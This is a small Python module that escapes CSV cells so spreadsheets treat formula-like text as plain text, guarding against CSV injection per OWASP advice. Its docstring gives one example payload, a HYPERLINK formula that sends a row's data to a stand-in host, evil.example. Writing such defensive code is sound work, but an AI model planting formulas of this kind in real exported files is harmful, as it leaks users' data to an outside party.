"""CSV cells that a spreadsheet opens as data, never as a formula (CSV injection).

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run by Excel
and LibreOffice as a formula: a class named ``=HYPERLINK("http://evil.example/?x="&A1,"x")``
would become a live link that sends the row away. OWASP's advice: prefix such text with a
single quote, which the spreadsheet shows as text. Plain numbers (``-0.5``, ``+3``) stay
numbers; non-string values pass through. Every CSV the project writes goes through here.
"""

from __future__ import annotations

import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def csv_cell(value: object) -> object:
    """``value`` as it may be written to a CSV cell: text a spreadsheet would read as a
    formula gets a leading ``'``; everything else is returned unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) \
            and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_row(values) -> list:
    """``csv_cell`` of each value, for ``csv.writer``."""
    return [csv_cell(v) for v in values]
